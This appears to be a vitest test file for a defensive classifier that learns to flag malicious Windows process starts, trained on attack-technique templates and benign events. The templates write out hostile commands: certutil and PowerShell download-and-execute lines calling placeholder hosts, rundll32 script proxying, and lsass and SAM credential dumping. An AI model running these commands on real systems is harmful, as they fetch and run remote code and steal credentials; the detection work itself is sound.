import { describe, expect, it } from 'vitest';
import { CARET_CMD, CERTUTIL, LOOKALIKE, RENAMED_RUNDLL } from '../features/golden-events.test-fixtures.js';
import { FULL_SPEC, PARITY_SPEC } from '../features/index.js';
import type { ProcessEvent } from '../normalize/process-event.js';
import { artEvents, programOf, type ArtTemplate } from './data/art-events.js';
import type { LabelledEvent } from './data/labelled.js';
import { parseClassifier, serializeClassifier } from './model-file.js';
import { createClassifier } from './classifier.js';
import { trainClassifier } from './trainer.js';

const TEMPLATES: ArtTemplate[] = [
  { technique: 'T1105', guid: 'g1', executor: 'command_prompt', elevation_required: false, resolved_command: 'certutil -urlcache -split -f http://example.com/a.exe %temp%\\a.exe' },
  { technique: 'T1218.011', guid: 'g2', executor: 'command_prompt', elevation_required: false, resolved_command: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)' },
  { technique: 'T1059.001', guid: 'g3', executor: 'powershell', elevation_required: true, resolved_command: 'IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")\ncmd.exe /c whoami /all' },
  { technique: 'T1003.001', guid: 'g4', executor: 'command_prompt', elevation_required: true, resolved_command: 'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp\nreg save HKLM\\SAM C:\\Temp\\sam' },
];

function benign(i: number): LabelledEvent {
  const apps = [
    ['chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer --field-trial-handle=1'],
    ['svchost.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
    ['conhost.exe', 'C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
    ['OneDrive.exe', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', '"OneDrive.exe" /background'],
  ];
  const [name, exe, cmd] = apps[i % apps.length];
  const event: ProcessEvent = {
    '@timestamp': '2026-01-01T00:00:00.000Z',
    event: { kind: 'event', category: ['process'], type: ['start'] },
    host: { name: `h${i % 3}` },
    user: { name: 'bob' },
    process: { name, executable: exe, command_line: `${cmd} ${i % 7}`, parent: { name: i % 2 ? 'explorer.exe' : 'services.exe' } },
  };
  return { event, y: 0, weight: 1, source: 'handmade', recording: `r${i % 5}`, technique: [] };
}

describe('training end to end (tiny)', () => {
  const pos = artEvents(TEMPLATES, 7, 4);
  const neg = Array.from({ length: 80 }, (_, i) => benign(i));
  const params = { nTrees: 20, maxBins: 16, earlyStoppingRounds: 5 };

  it('ART templates become labelled process starts with realistic parents', () => {
    expect(pos.length).toBeGreaterThan(8);
    for (const e of pos) {
      expect(e.y).toBe(1);
      expect(e.event.process.name).toBeTruthy();
      expect(e.event.label?.value).toBe('malicious');
    }
    expect(programOf('certutil -urlcache -f http://x a')?.exe).toBe('C:\\windows\\system32\\certutil.exe');
    expect(programOf('echo hi')).toBeUndefined();
    expect(programOf('Get-Process')).toBeUndefined();
  });

  it('is deterministic: same data and seed → byte-identical model files', () => {
    const a = trainClassifier({ train: [...pos, ...neg], spec: FULL_SPEC, seed: 3, params, modelId: 'tiny' });
    const b = trainClassifier({ train: [...pos, ...neg], spec: FULL_SPEC, seed: 3, params, modelId: 'tiny' });
    const sa = serializeClassifier(a.file);
    expect(serializeClassifier(b.file)).toBe(sa);
    const back = parseClassifier(sa, 'tiny.json');
    expect(serializeClassifier(back)).toBe(sa);
    const clf = createClassifier(back);
    expect(clf.probability(CERTUTIL)).toBeGreaterThan(clf.probability(benign(1).event));
  });

  it('the parity baseline trains on the same data', () => {
    const { file } = trainClassifier({ train: [...pos, ...neg], spec: PARITY_SPEC, seed: 3, params, modelId: 'tiny-parity' });
    const clf = createClassifier(file);
    for (const ev of [CERTUTIL, CARET_CMD, LOOKALIKE, RENAMED_RUNDLL]) expect(Number.isFinite(clf.probability(ev))).toBe(true);
  });
});
